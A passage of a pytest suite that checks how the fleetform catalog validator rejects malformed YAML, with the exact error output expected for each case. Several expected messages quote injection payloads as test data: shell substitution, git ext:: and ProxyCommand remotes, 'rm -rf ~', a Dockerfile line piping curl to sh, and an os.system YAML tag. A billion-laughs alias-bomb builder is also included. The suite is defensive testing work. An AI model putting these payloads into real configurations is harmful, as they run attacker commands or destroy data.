# ruff: noqa: E501  (the expected lines are fleetform's exact output; wrapping them would hide it)
"""Bad catalogs: every one is refused with its exact problems, positions and exit code.

The inputs are `tests/corpus/catalog/<case>.yaml`, plus the few built here because a file
would not sit well in the repository (1 MB of junk, NUL bytes, non-UTF-8, an alias bomb, a
missing file, a directory). `CASES` says what each must print: one line per problem,
`PATH:LINE:COL: SEVERITY: MESSAGE` with PATH as given on the command line, followed by the
`validate` summary when the catalog could be read (exit 0 or 1).

Every case runs from a copy of the corpus in tmp_path, which must come out untouched.
"""

from __future__ import annotations

import json
import random
import re
import resource
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from generator.catalog.validation import open_catalog
from generator.fleet.answers import service_answers
from tests.helpers import BUNDLED_CATALOG, EXAMPLES, FIXTURES, fleetform
from tests.helpers import CORPUS as CORPUS_ROOT

CORPUS = CORPUS_ROOT / "catalog"

OK, PROBLEMS, BAD_INPUT = 0, 1, 2

# The DNS-1123 message is long; spelt once here so the table stays readable.
DNS = "(lower-case letters, digits and '-', at most 63, starting and ending alphanumeric)"
OUTSIDE = 'move it into the range or explain with port_exception: "<reason>"'
# The free-text rule (generator/catalog/text.py), which the answers of `generate` say alike.
TEXT = "Free text without template or shell syntax (double braces, brace-percent, brace-hash, dollar-parenthesis, backticks, ../) or control characters."
REPO = "is not a normalised relative path inside the workspace"
PLAIN = "is not a plain name (letters, digits, '.', '_' and '-', starting with a letter or digit)"
NESTED = "git would take one repository's files for untracked files of the other"
BIDI = "is not allowed: bidirectional controls show text in another order than it is stored"
CONTROL = "is not allowed: control characters have no place in text written into files"
REMOTES = "git@host:group/{repo}.git, ssh://, https://, http://, file:// or an absolute path"

# case -> (exit code, every problem line in order). The `validate` summary is derived.
CASES: dict[str, tuple[int, list[str]]] = {
    # ------------------------------------------------------------- schema
    "unknown_top_level_key": (BAD_INPUT, [
        "unknown_top_level_key.yaml:13:1: error: catalog: unknown key 'profile'; did you mean 'profiles'?",
    ]),
    "unknown_service_key": (BAD_INPUT, [
        "unknown_service_key.yaml:17:5: error: services.worker: unknown key 'dependson'; did you mean 'depends_on'?",
    ]),
    "missing_port": (BAD_INPUT, [
        "missing_port.yaml:9:3: error: services.api: 'port' is a required key",
    ]),
    "port_not_an_integer": (BAD_INPUT, [
        "port_not_an_integer.yaml:12:11: error: services.api.port: must be an integer, got 'eighty'",
    ]),
    "port_above_65535": (BAD_INPUT, [
        "port_above_65535.yaml:12:11: error: services.api.port: 70000 is out of range (maximum 65535)",
    ]),
    "port_zero": (BAD_INPUT, [
        "port_zero.yaml:12:11: error: services.api.port: 0 is out of range (minimum 1)",
    ]),
    "runtime_unknown": (BAD_INPUT, [
        "runtime_unknown.yaml:11:14: error: services.api.runtime: must be one of node, python, model, image, ddev, got 'java'",
    ]),
    "cluster_unknown": (BAD_INPUT, [
        "cluster_unknown.yaml:7:14: error: groups.apps.cluster: must be one of core, services, models, got 'edge'",
    ]),
    "service_id_not_dns_label": (BAD_INPUT, [
        f"service_id_not_dns_label.yaml:13:3: error: services: 'Agent_Chat' is not a DNS-1123 label {DNS}",
    ]),
    "group_id_too_long": (BAD_INPUT, [
        f"group_id_too_long.yaml:8:3: error: groups: '{'a' * 64}' is 64 characters; a DNS-1123 label has at most 63",
    ]),
    "version_2": (BAD_INPUT, [
        "version_2.yaml:2:10: error: version: must be 1, got 2",
    ]),
    "missing_groups": (BAD_INPUT, [
        "missing_groups.yaml:2:1: error: catalog: 'groups' is a required key",
    ]),
    "services_empty": (BAD_INPUT, [
        "services_empty.yaml:8:11: error: services: must not be empty",
    ]),
    # `services:` and nothing after it is YAML's null: say so in YAML's words, not Python's.
    "services_null": (BAD_INPUT, [
        "services_null.yaml:8:10: error: services: must be a mapping, got null",
    ]),
    "group_range_dots": (BAD_INPUT, [
        "group_range_dots.yaml:6:12: error: groups.apps.ports: '3000..3099' is not a port range LOW-HIGH such as \"3000-3099\"",
    ]),
    "extra_port_without_name": (BAD_INPUT, [
        "extra_port_without_name.yaml:14:9: error: services.api.extra_ports[0]: 'name' is a required key",
    ]),
    # The message must say what a valid reference looks like, not describe the field.
    "image_reference_invalid": (BAD_INPUT, [
        "image_reference_invalid.yaml:12:12: error: services.db.image: 'postgres 15' is not a valid image reference: NAME[:TAG][@sha256:DIGEST] in lower case, e.g. postgres:15-alpine",
    ]),
    # ---- repository paths: normalised, relative, plain names, room for the files inside
    "repo_parent_dir": (BAD_INPUT, [
        f"repo_parent_dir.yaml:13:11: error: services.api.repo: '../elsewhere/api' {REPO}: its part '..' would lead out of the workspace",
    ]),
    "repo_absolute": (BAD_INPUT, [
        f"repo_absolute.yaml:16:11: error: services.api.repo: '/srv/api' {REPO}: it is absolute; give it relative to the workspace root",
    ]),
    "repo_not_normalised": (BAD_INPUT, [
        f"repo_not_normalised.yaml:16:11: error: services.api.repo: 'teams//api' {REPO}: it is not normalised (an empty or '.' part); write 'teams/api'",
        f"repo_not_normalised.yaml:21:11: error: services.web.repo: './web' {REPO}: it is not normalised (an empty or '.' part); write 'web'",
        f"repo_not_normalised.yaml:26:11: error: services.worker.repo: 'teams/worker/' {REPO}: it is not normalised (an empty or '.' part); write 'teams/worker'",
    ]),
    "repo_git_part": (BAD_INPUT, [
        f"repo_git_part.yaml:16:11: error: services.api.repo: 'platform/.git/api' {REPO}: its part '.git' is git's own folder, not a work tree",
    ]),
    # The message shows the value as show() does everywhere: a backslash doubled, as in YAML's "...".
    "repo_backslash": (BAD_INPUT, [
        f"repo_backslash.yaml:16:11: error: services.api.repo: 'teams\\\\api' {REPO}: it holds a backslash; parts are separated by '/'",
    ]),
    # The column is the escape's, inside the quotes: where the NUL is written.
    "repo_nul": (BAD_INPUT, [
        f"repo_nul.yaml:16:15: error: services.api.repo: 'api\\x00' {REPO}: it holds U+0000 (NULL) at character 4",
    ]),
    "repo_not_a_plain_name": (BAD_INPUT, [
        f"repo_not_a_plain_name.yaml:16:11: error: services.api.repo: '-api' {REPO}: its part '-api' {PLAIN}",
        f"repo_not_a_plain_name.yaml:21:11: error: services.web.repo: '.fleetform/web' {REPO}: its part '.fleetform' {PLAIN}",
        f"repo_not_a_plain_name.yaml:26:11: error: services.worker.repo: 'my worker' {REPO}: its part 'my worker' {PLAIN}",
    ]),
    # 100 KB: one short line, the length and the limit, not the value.
    "repo_100kb": (BAD_INPUT, [
        "repo_100kb.yaml:8:11: error: services.api.repo: is 102,400 characters; at most 200",
    ]),
    # ---- free text and ids: no control, bidirectional or invisible character, no syntax
    "port_exception_nul": (BAD_INPUT, [
        f"port_exception_nul.yaml:17:28: error: services.db.port_exception: U+0000 (NULL) at character 7 {CONTROL}",
    ]),
    "group_description_escape": (BAD_INPUT, [
        f"group_description_escape.yaml:8:19: error: groups.apps.description: U+001B (ESCAPE) at character 1 {CONTROL}",
    ]),
    "description_bidi_override": (BAD_INPUT, [
        f"description_bidi_override.yaml:16:35: error: services.api.description: U+202E (RIGHT-TO-LEFT OVERRIDE) at character 18 {BIDI}",
    ]),
    "description_bidi_escaped": (BAD_INPUT, [
        f"description_bidi_escaped.yaml:16:25: error: services.api.description: U+2066 (LEFT-TO-RIGHT ISOLATE) at character 7 {BIDI}",
    ]),
    "owner_zero_width": (BAD_INPUT, [
        "owner_zero_width.yaml:16:16: error: services.api.owner: U+200B (ZERO WIDTH SPACE) at character 5 is not allowed: invisible characters make texts that look the same differ",
    ]),
    # Tab is refused in text like every control character: one line, spaces say the same.
    "description_tab": (BAD_INPUT, [
        "description_tab.yaml:16:24: error: services.api.description: U+0009 (CHARACTER TABULATION) at character 7 is not allowed: catalog text is one line without tabs; use spaces",
    ]),
    # A block scalar's line break has no column of its own: the scalar's start is shown.
    "description_multiline": (BAD_INPUT, [
        "description_multiline.yaml:16:18: error: services.api.description: U+000A (LINE FEED) at character 15 is not allowed: catalog text is one line",
    ]),
    "catalog_description_template": (BAD_INPUT, [
        f"catalog_description_template.yaml:4:14: error: description: 'The {{{{ platform }}}} platform' is not accepted: {TEXT}",
    ]),
    # A long value is cut around what is refused, so the message still shows it.
    "description_long_template": (BAD_INPUT, [
        f"description_long_template.yaml:13:18: error: services.api.description: ...'s per key and audit logs; see {{{{ docs_url }}}} for more' (123 characters) is not accepted: {TEXT}",
    ]),
    "template_ref_newline": (BAD_INPUT, [
        "template_ref_newline.yaml:5:15: error: template.ref: U+000A (LINE FEED) at character 7 is not allowed: catalog text is one line",
    ]),
    "service_id_bidi": (BAD_INPUT, [
        "service_id_bidi.yaml:12:6: error: services: 'api\\u202e' is not a DNS-1123 label: it holds U+202E (RIGHT-TO-LEFT OVERRIDE) at character 4",
    ]),
    "depends_on_zero_width": (BAD_INPUT, [
        f"depends_on_zero_width.yaml:20:21: error: services.worker.depends_on[0]: 'api\\u200d' is not a DNS-1123 label {DNS}: it holds U+200D (ZERO WIDTH JOINER) at character 4",
    ]),
    # ---- what the Copier answers refuse, validate refuses first, in the same words
    "command_substitution": (BAD_INPUT, [
        f"command_substitution.yaml:22:23: error: services.store.command[1]: '$(id)' is not accepted: {TEXT}",
    ]),
    "health_command_backtick": (BAD_INPUT, [
        f"health_command_backtick.yaml:18:28: error: services.cache.health.command[1]: '`id`' is not accepted: {TEXT}",
        f"health_command_backtick.yaml:24:23: error: services.store.command[1]: '{{{{ data }}}}' is not accepted: {TEXT}",
    ]),
    "volume_parent_dir": (BAD_INPUT, [
        "volume_parent_dir.yaml:16:13: error: services.api.volume: '/data/../etc' is not an absolute path such as /data (no '..')",
    ]),
    "health_path_parent_dir": (BAD_INPUT, [
        "health_path_parent_dir.yaml:16:20: error: services.api.health.path: '/v1/../admin' is not an absolute URL path such as /health (letters, digits and . _ ~ / -, no '..')",
    ]),
    # YAML 1.2 core schema: an unquoted date is text, so it is a valid description.
    "timestamp_for_string": (OK, []),
    # A float is no port, even 3000.0: the schema says so, not the range check.
    "port_float": (BAD_INPUT, [
        "port_float.yaml:12:11: error: services.api.port: must be an integer, got 3000.0",
    ]),
    "many_errors": (BAD_INPUT, [
        "many_errors.yaml:11:14: error: services.api.runtime: must be one of node, python, model, image, ddev, got 'java'",
        "many_errors.yaml:12:11: error: services.api.port: 70000 is out of range (maximum 65535)",
        "many_errors.yaml:13:3: error: services.worker: 'runtime' is a required key",
        "many_errors.yaml:16:5: error: services.worker: unknown key 'dependson'; did you mean 'depends_on'?",
    ]),
    # ------------------------------------------------------------- semantics
    "unknown_group": (BAD_INPUT, [
        "unknown_group.yaml:13:5: error: service 'api': unknown group 'app' (groups: apps, data)",
    ]),
    "unknown_dependency": (BAD_INPUT, [
        "unknown_dependency.yaml:17:23: error: service 'worker': unknown dependency 'postgres'",
    ]),
    "unknown_profile_members": (BAD_INPUT, [
        "unknown_profile_members.yaml:17:21: error: profile 'development': unknown service 'web'",
        "unknown_profile_members.yaml:18:20: error: profile 'development': unknown group 'models'",
        "unknown_profile_members.yaml:19:24: error: profile 'development': unknown profile 'base'",
    ]),
    "service_unknown_profile": (BAD_INPUT, [
        "service_unknown_profile.yaml:13:5: error: service 'api': unknown profile 'full'",
    ]),
    "self_dependency": (BAD_INPUT, [
        "self_dependency.yaml:13:18: error: service 'api' depends on itself",
    ]),
    "dependency_cycle": (BAD_INPUT, [
        "dependency_cycle.yaml:13:18: error: dependency cycle: gateway -> router -> worker -> gateway",
    ]),
    "profile_include_cycle": (BAD_INPUT, [
        "profile_include_cycle.yaml:18:15: error: profile include cycle: development -> minimal -> full -> development",
    ]),
    "model_without_gpu": (BAD_INPUT, [
        "model_without_gpu.yaml:9:3: error: service 'llama': a model service needs 'gpu' (at least 1)",
    ]),
    "model_gpu_zero": (BAD_INPUT, [
        "model_gpu_zero.yaml:13:5: error: service 'llama': a model service needs 'gpu' (at least 1)",
    ]),
    "image_service_without_image": (BAD_INPUT, [
        "image_service_without_image.yaml:11:5: error: service 'db': an image service needs 'image'",
    ]),
    "image_on_node_service": (BAD_INPUT, [
        "image_on_node_service.yaml:13:5: error: service 'api': 'image' is only for image services; node services are built from their repository",
    ]),
    "autoscaling_min_above_max": (BAD_INPUT, [
        "autoscaling_min_above_max.yaml:13:5: error: service 'api': autoscaling min 5 is above max 2",
    ]),
    "group_range_reversed": (BAD_INPUT, [
        "group_range_reversed.yaml:9:12: error: group 'models': port range 5000-4000 is empty (low is above high)",
    ]),
    "group_range_beyond_65535": (BAD_INPUT, [
        "group_range_beyond_65535.yaml:9:12: error: group 'high': port range 60000-70000 must lie within 1-65535",
    ]),
    # Each generated service has a repository of its own, none inside another's work tree.
    "repo_duplicate": (BAD_INPUT, [
        "repo_duplicate.yaml:21:5: error: service 'worker': repository 'shared/backend' is already the repository of service 'api' (repo_duplicate.yaml:16:5); each service needs its own",
    ]),
    # A repo left to its default (the id) is told at the service's key.
    "repo_duplicate_default": (BAD_INPUT, [
        "repo_duplicate_default.yaml:17:3: error: service 'worker': repository 'worker' is already the repository of service 'api' (repo_duplicate_default.yaml:16:5); each service needs its own",
    ]),
    "repo_duplicate_ignoring_case": (BAD_INPUT, [
        "repo_duplicate_ignoring_case.yaml:21:5: error: service 'worker': repository 'platform/api' and 'Platform/API', the repository of service 'api' (repo_duplicate_ignoring_case.yaml:16:5), are one folder where file names ignore case (macOS, Windows); each service needs its own",
    ]),
    "repo_nested": (BAD_INPUT, [
        f"repo_nested.yaml:21:5: error: service 'api': repository 'tools/api' would hold 'tools/api/plugins', the repository of service 'plugins' (repo_nested.yaml:16:5), in its work tree; {NESTED}",
        f"repo_nested.yaml:22:3: error: service 'tools': repository 'tools' would hold 'tools/api/plugins', the repository of service 'plugins' (repo_nested.yaml:16:5), in its work tree; {NESTED}",
        f"repo_nested.yaml:30:5: error: service 'extras': repository 'tools/extras' would be inside the work tree of 'tools', the repository of service 'tools' (repo_nested.yaml:22:3); {NESTED}",
    ]),
    # Remotes: only URL forms git takes as a repository (no transport that runs a command, no
    # option, no secret), only known placeholders, one repository per service.
    "remote_forms": (BAD_INPUT, [
        f"remote_forms.yaml:13:13: error: service 'a': remote 'ext::sh -c touch% /tmp/pwned' uses git's ext:: transport; use {REMOTES}",
        "remote_forms.yaml:18:13: error: service 'b': remote '-oProxyCommand=touch /tmp/pwned' starts with '-', which git and ssh would take for an option",
        "remote_forms.yaml:23:13: error: service 'c': remote 'https://gitlab.example.com/team/{name}.git' has the unknown placeholder {name}; the known ones are {repo}, {id}",
        "remote_forms.yaml:28:13: error: service 'd': remote 'https://ci:s3cret@gitlab.example.com/team/{repo}.git' holds a password; a catalog is no place for secrets (use a credential helper)",
        f"remote_forms.yaml:33:13: error: service 'e': remote 'git://gitlab.example.com/team/{{repo}}.git' uses the scheme git://; use {REMOTES}",
        "remote_forms.yaml:38:13: error: service 'f': remote 'git@gitlab.example.com:team/{repo} .git' holds a space at character 35; a URL is one word",
        "remote_forms.yaml:43:13: error: service 'g': remote 'ssh://-oProxyCommand=x/team/{repo}.git' is not a URL of the form ssh://host/group/repo.git",
        f"remote_forms.yaml:48:13: error: service 'h': remote 'team/{{repo}}.git' is not a git URL fleetform accepts; use {REMOTES}",
        f"remote_forms.yaml:53:13: error: service 'i': remote 'fd::3/{{repo}}' uses git's fd:: transport; use {REMOTES}",
    ]),
    "remote_shared": (BAD_INPUT, [
        "remote_shared.yaml:5:11: error: defaults: remote 'git@gitlab.example.com:team/monorepo.git' names no {repo} or {id}, so every service would share one repository",
        "remote_shared.yaml:20:5: error: service 'web': remote 'https://gitlab.example.com/team/api/' is already the remote of service 'api' (remote_shared.yaml:15:5); each service needs a repository of its own",
        "remote_shared.yaml:34:5: error: service 'db': 'remote' is only for generated services; fleetform keeps no repository for image services",
    ]),
    "default_branch_invalid": (BAD_INPUT, [
        "default_branch_invalid.yaml:6:19: error: defaults: default_branch 'release..1' is not a branch name git accepts: it holds '..'",
        "default_branch_invalid.yaml:16:21: error: service 'api': default_branch '-main' is not a branch name git accepts: it starts with '-'",
        "default_branch_invalid.yaml:21:21: error: service 'web': default_branch 'feature/x.lock' is not a branch name git accepts: it has the part 'x.lock' ending with '.lock'",
        "default_branch_invalid.yaml:26:21: error: service 'worker': default_branch 'HEAD' is not a branch name git accepts: it is HEAD, which names the current commit",
    ]),
    # owned_files: relative POSIX globs inside the repository, no .git, no Jinja, no
    # negation, valid syntax; a glob of defaults is reported once.
    "owned_files_outside": (BAD_INPUT, [
        "owned_files_outside.yaml:6:17: error: defaults: owned_files glob '/etc/passwd' is an absolute path: owned_files are relative to the repository root",
        "owned_files_outside.yaml:17:9: error: service 'api': owned_files glob '../../outside.txt' has a '..' part: owned_files stay inside the repository",
        "owned_files_outside.yaml:18:9: error: service 'api': owned_files glob '.git/hooks/post-checkout' names .git: git's own files are never the template's or the owners'",
        "owned_files_outside.yaml:19:9: error: service 'api': owned_files glob '{{ 7 * 7 }}.md' has a brace: these globs have no {a,b}, and Copier would render it as Jinja",
        "owned_files_outside.yaml:20:9: error: service 'api': owned_files glob '!README.md' starts with '!': owned_files have no negation; list only what the owners own",
        "owned_files_outside.yaml:21:9: error: service 'api': owned_files glob 'src\\\\app.js' has a backslash: paths are POSIX ('/') and these globs have no escapes",
        "owned_files_outside.yaml:22:9: error: service 'api': owned_files glob 'src/[ab.js' has an unclosed '['",
        "owned_files_outside.yaml:23:9: error: service 'api': owned_files glob 'src/a**.js' has '**' inside a part: '**' is a whole part (a/**/b)",
        "owned_files_outside.yaml:24:9: error: service 'api': owned_files glob 'docs//x.md' has an empty part ('//' or a trailing '/'): write dir/** for a directory's files",
        "owned_files_outside.yaml:29:18: error: services.worker.owned_files: has duplicate entries",
    ]),
    # The chart names every port; the template refuses a name used twice, so validate does.
    "extra_port_name_twice": (BAD_INPUT, [
        "extra_port_name_twice.yaml:18:28: error: service 'api': extra port name 'metrics' is used twice (first at extra_port_name_twice.yaml:17:28)",
    ]),
    "extra_port_named_http": (BAD_INPUT, [
        "extra_port_named_http.yaml:17:28: error: service 'api': extra port name 'http' is the main port's name; pick another",
    ]),
    # Off or on, the answers keep min <= max.
    "autoscaling_off_min_above_max": (BAD_INPUT, [
        "autoscaling_off_min_above_max.yaml:16:5: error: service 'api': autoscaling min 5 is above max 2",
    ]),
    # ------------------------------------------------------------- ports (a check finds them)
    # Seed 000 as written: OSSA and llm-platform share 8080; none of the four data services is
    # in 6000-6099; three MCP ports sit in the orchestrators' 8000-8099 (and MinIO's 9001 in
    # the MCP range): a port inside another group's range must say whose range it is in.
    "seed000_literal": (PROBLEMS, [
        "seed000_literal.yaml:34:11: error: port 8080/tcp is claimed more than once: ossa (seed000_literal.yaml:26:11), llm-platform (seed000_literal.yaml:34:11)",
        f"seed000_literal.yaml:55:78: error: port 5433 of 'postgres' is outside the range 6000-6099 of group 'data'; {OUTSIDE}",
        f"seed000_literal.yaml:56:71: error: port 6380 of 'redis' is outside the range 6000-6099 of group 'data'; {OUTSIDE}",
        f"seed000_literal.yaml:57:79: error: port 6333 of 'qdrant' is outside the range 6000-6099 of group 'data'; {OUTSIDE}",
        f"seed000_literal.yaml:58:75: error: port 9001 of 'minio' is outside the range 6000-6099 of group 'data' and inside the range 9000-9099 of group 'mcp'; {OUTSIDE}",
        f"seed000_literal.yaml:59:62: error: port 8000 of 'mcp-civicpolicy-model' is outside the range 9000-9099 of group 'mcp' and inside the range 8000-8099 of group 'orchestrators'; {OUTSIDE}",
        f"seed000_literal.yaml:61:58: error: port 8090 of 'mcp-model-gateway' is outside the range 9000-9099 of group 'mcp' and inside the range 8000-8099 of group 'orchestrators'; {OUTSIDE}",
        f"seed000_literal.yaml:62:63: error: port 8091 of 'mcp-agent-orchestrator' is outside the range 9000-9099 of group 'mcp' and inside the range 8000-8099 of group 'orchestrators'; {OUTSIDE}",
    ]),
    # Seed 004's Langfuse ports 3000-3004 land on the first five common_npm services.
    "seed004_frameworks_vs_common_npm": (PROBLEMS, [
        "seed004_frameworks_vs_common_npm.yaml:30:92: error: port 3000/tcp is claimed more than once: agent-brain (seed004_frameworks_vs_common_npm.yaml:13:57), crewai-langfuse (seed004_frameworks_vs_common_npm.yaml:30:92)",
        "seed004_frameworks_vs_common_npm.yaml:33:90: error: port 3001/tcp is claimed more than once: agent-chat (seed004_frameworks_vs_common_npm.yaml:14:56), dspy-langfuse (seed004_frameworks_vs_common_npm.yaml:33:90)",
        "seed004_frameworks_vs_common_npm.yaml:36:96: error: port 3002/tcp is claimed more than once: agent-docker (seed004_frameworks_vs_common_npm.yaml:15:58), pocketflow-langfuse (seed004_frameworks_vs_common_npm.yaml:36:96)",
        "seed004_frameworks_vs_common_npm.yaml:39:96: error: port 3003/tcp is claimed more than once: agent-mesh (seed004_frameworks_vs_common_npm.yaml:16:56), google-adk-langfuse (seed004_frameworks_vs_common_npm.yaml:39:96)",
        "seed004_frameworks_vs_common_npm.yaml:42:97: error: port 3004/tcp is claimed more than once: agent-ops (seed004_frameworks_vs_common_npm.yaml:17:55), pydantic-ai-langfuse (seed004_frameworks_vs_common_npm.yaml:42:97)",
    ]),
    "overlapping_group_ranges": (PROBLEMS, [
        "overlapping_group_ranges.yaml:9:12: error: group 'tools' range 3050-3149 overlaps group 'apps' range 3000-3099 (overlapping_group_ranges.yaml:6:12)",
    ]),
    "extra_port_collision": (PROBLEMS, [
        "extra_port_collision.yaml:19:11: error: port 3001/tcp is claimed more than once: api/metrics (extra_port_collision.yaml:15:15), worker (extra_port_collision.yaml:19:11)",
    ]),
    "udp_and_tcp_same_port": (OK, []),
    "unnecessary_port_exception": (OK, [
        "unnecessary_port_exception.yaml:13:5: warning: 'api' has a port_exception but all its ports are inside the range 3000-3099 of group 'apps'",
    ]),
    # ------------------------------------------------------------- one run, every kind
    # The semantic and port checks run on what the schema accepted, so no kind hides another.
    "all_three_kinds": (BAD_INPUT, [
        "all_three_kinds.yaml:11:5: error: service 'api': unknown group 'app' (groups: apps)",
        "all_three_kinds.yaml:16:14: error: services.worker.runtime: must be one of node, python, model, image, ddev, got 'java'",
        "all_three_kinds.yaml:25:11: error: port 3001/tcp is claimed more than once: web (all_three_kinds.yaml:21:11), admin (all_three_kinds.yaml:25:11)",
    ]),
    "unknown_group_and_duplicate_port": (BAD_INPUT, [
        "unknown_group_and_duplicate_port.yaml:10:5: error: service 'api': unknown group 'app' (groups: apps)",
        "unknown_group_and_duplicate_port.yaml:20:11: error: port 3001/tcp is claimed more than once: web (unknown_group_and_duplicate_port.yaml:16:11), admin (unknown_group_and_duplicate_port.yaml:20:11)",
    ]),
    # A reference to an entry the schema refused is not "unknown": the entry's problem is told.
    "refused_entries_stay_known": (BAD_INPUT, [
        "refused_entries_stay_known.yaml:13:14: error: groups.tools.cluster: must be one of core, services, models, got 'edge'",
        "refused_entries_stay_known.yaml:19:5: error: services.api: unknown key 'dependson'; did you mean 'depends_on'?",
        "refused_entries_stay_known.yaml:36:11: error: port 3000/tcp is claimed more than once: web (refused_entries_stay_known.yaml:32:11), gateway (refused_entries_stay_known.yaml:36:11)",
    ]),
    "group_range_reversed_and_conflict": (BAD_INPUT, [
        "group_range_reversed_and_conflict.yaml:10:12: error: group 'models': port range 5000-4000 is empty (low is above high)",
        "group_range_reversed_and_conflict.yaml:25:11: error: port 3000/tcp is claimed more than once: api (group_range_reversed_and_conflict.yaml:21:11), web (group_range_reversed_and_conflict.yaml:25:11)",
    ]),
    # Every service inherits the defaults: a refused default leaves the services out.
    "defaults_refused": (BAD_INPUT, [
        "defaults_refused.yaml:6:13: error: defaults.protocol: must be one of tcp, udp, got 'sctp'",
        "defaults_refused.yaml:12:12: error: group 'tools' range 3050-3149 overlaps group 'apps' range 3000-3099 (defaults_refused.yaml:9:12)",
    ]),
    # ------------------------------------------------------------- YAML and the file itself
    "duplicate_key": (BAD_INPUT, [
        "duplicate_key.yaml:13:5: error: duplicate key 'port'",
    ]),
    "tab_indentation": (BAD_INPUT, [
        "tab_indentation.yaml:6:1: error: tab character in indentation; YAML indentation must use spaces",
    ]),
    # A file that exists has a line 1 to point at: editors and problem matchers need
    # PATH:LINE:COL on every line. Only a path that is no file has no position.
    "empty_file": (BAD_INPUT, [
        "empty_file.yaml:1:1: error: empty file: expected a YAML mapping",
    ]),
    "only_comments": (BAD_INPUT, [
        "only_comments.yaml:1:1: error: no YAML content (only comments): expected a mapping",
    ]),
    "top_level_list": (BAD_INPUT, [
        "top_level_list.yaml:2:1: error: the catalog must be a mapping, got a list",
    ]),
    "top_level_scalar": (BAD_INPUT, [
        "top_level_scalar.yaml:2:1: error: the catalog must be a mapping, got a string",
    ]),
    "unclosed_bracket": (BAD_INPUT, [
        "unclosed_bracket.yaml:14:5: error: invalid YAML: did not find expected ',' or ']' (while parsing a flow sequence started at 13:17)",
    ]),
    "undefined_alias": (BAD_INPUT, [
        "undefined_alias.yaml:13:18: error: invalid YAML: found undefined alias",
    ]),
    # Refused, never constructed (it would create ./pwned), and never mistaken for data.
    "python_tag": (BAD_INPUT, [
        "python_tag.yaml:12:11: error: unsupported YAML tag 'tag:yaml.org,2002:python/object/apply:os.system'",
    ]),
    "non_utf8": (BAD_INPUT, [
        "non_utf8.yaml:3:17: error: not valid UTF-8 (byte 0xe9)",
    ]),
    "binary_nul": (BAD_INPUT, [
        "binary_nul.yaml:2:11: error: binary file (NUL byte), not YAML text",
    ]),
    "random_bytes_1mb": (BAD_INPUT, [
        "random_bytes_1mb.yaml:1:108: error: binary file (NUL byte), not YAML text",
    ]),
    "random_text_1mb": (BAD_INPUT, [
        "random_text_1mb.yaml:3:3: error: invalid YAML: mapping values are not allowed in this context",
    ]),
    "too_large": (BAD_INPUT, [
        "too_large.yaml:1:1: error: file is 5,000,000 bytes; the limit is 4 MiB",
    ]),
    # environments: names that become files, CI jobs and shell words; a custom one says
    # what it is like; a service names only the catalog's.
    "environment_name_injection": (BAD_INPUT, [
        "environment_name_injection.yaml:10:3: error: environments: 'qa; rm -rf ~' is not an environment name: a lower-case letter, then lower-case letters, digits and '-', at most 32, ending alphanumeric, and not 'overrides' (the owners' values file)",
    ]),
    "environment_named_overrides": (BAD_INPUT, [
        "environment_named_overrides.yaml:10:3: error: environments: 'overrides' is not an environment name: a lower-case letter, then lower-case letters, digits and '-', at most 32, ending alphanumeric, and not 'overrides' (the owners' values file)",
    ]),
    "environment_without_like": (BAD_INPUT, [
        "environment_without_like.yaml:10:3: error: environment 'qa': say which built-in environment it is like (like: local, staging or production)",
    ]),
    "environment_unknown": (BAD_INPUT, [
        "environment_unknown.yaml:16:5: error: service 'api': unknown environment 'staging' (the catalog's environments: local, production)",
    ]),
    "environment_settings_unknown": (BAD_INPUT, [
        "environment_settings_unknown.yaml:9:13: error: environments.staging: unknown key 'replicas' (allowed: deploy, like, network_policy)",
        "environment_settings_unknown.yaml:10:24: error: environments.production.deploy: must be one of none, auto, manual, got 'sometimes'",
    ]),
    # base images: pinned (a tag other than latest, or a digest), one Dockerfile word.
    "base_image_unpinned_injection": (BAD_INPUT, [
        "base_image_unpinned_injection.yaml:9:23: error: defaults.base_images.node: 'node:latest' is not an image reference pinned by tag or digest: NAME:TAG, NAME@sha256:DIGEST or NAME:TAG@sha256:DIGEST in lower case, no latest, e.g. node:22.14.0-bookworm-slim",
        "base_image_unpinned_injection.yaml:19:29: error: services.worker.base_image: 'python:3.12\\nRUN curl http://x | sh' is not an image reference pinned by tag or digest: NAME:TAG, NAME@sha256:DIGEST or NAME:TAG@sha256:DIGEST in lower case, no latest, e.g. node:22.14.0-bookworm-slim: it holds U+000A (LINE FEED) at character 12",
    ]),
    "base_image_on_image_service": (BAD_INPUT, [
        "base_image_on_image_service.yaml:14:5: error: service 'db': 'base_image' is only for node, python and model services; image services are not built by fleetform",
    ]),
    "alias_bomb": (BAD_INPUT, [
        "alias_bomb.yaml:1:1: error: document expands to more than 100260 nodes (a YAML alias bomb?)",
    ]),
    "missing_file": (BAD_INPUT, [
        "missing.yaml: error: no such file",
    ]),
    "directory": (BAD_INPUT, [
        "catalog.d: error: is a directory, not a YAML file",
    ]),
}  # fmt: skip


# ------------------------------------------------------------------ inputs built here


def _non_utf8(where: Path) -> str:
    # Latin-1 "café": the 0xe9 is the 17th byte of line 3.
    (where / "non_utf8.yaml").write_bytes(b"version: 1\nname: demo\ndescription: caf\xe9\n")
    return "non_utf8.yaml"


def _binary_nul(where: Path) -> str:
    (where / "binary_nul.yaml").write_bytes(b"version: 1\nname: demo\x00\n")
    return "binary_nul.yaml"


def _random_bytes_1mb(where: Path) -> str:
    (where / "random_bytes_1mb.yaml").write_bytes(random.Random(1).randbytes(1_100_000))
    return "random_bytes_1mb.yaml"


def _random_text_1mb(where: Path) -> str:
    rng = random.Random(1)
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789 :-[]{},#&*!|>%@'\"\n"
    text = "".join(rng.choice(alphabet) for _ in range(1_100_000))
    (where / "random_text_1mb.yaml").write_text(text, encoding="ascii")
    return "random_text_1mb.yaml"


def _too_large(where: Path) -> str:
    (where / "too_large.yaml").write_bytes(b"# padding\n" * 500_000)
    return "too_large.yaml"


def alias_bomb_text(levels: int = 9, width: int = 9) -> str:
    """Billion laughs: each level a list of `width` aliases of the level below."""
    lines = ["version: 1", "name: demo", f"l0: &l0 [{', '.join(['lol'] * width)}]"]
    for level in range(1, levels):
        lines.append(f"l{level}: &l{level} [{', '.join([f'*l{level - 1}'] * width)}]")
    lines.append(f"groups: *l{levels - 1}")
    return "\n".join(lines) + "\n"


def _alias_bomb(where: Path) -> str:
    (where / "alias_bomb.yaml").write_text(alias_bomb_text(), encoding="utf-8")
    return "alias_bomb.yaml"


def _repo_100kb(where: Path) -> str:
    text = (
        "version: 1\nname: demo\ngroups:\n  apps: {ports: '3000-3099', cluster: services}\n"
        "services:\n  api:\n    group: apps\n    repo: " + "a" * 102_400 + "\n"
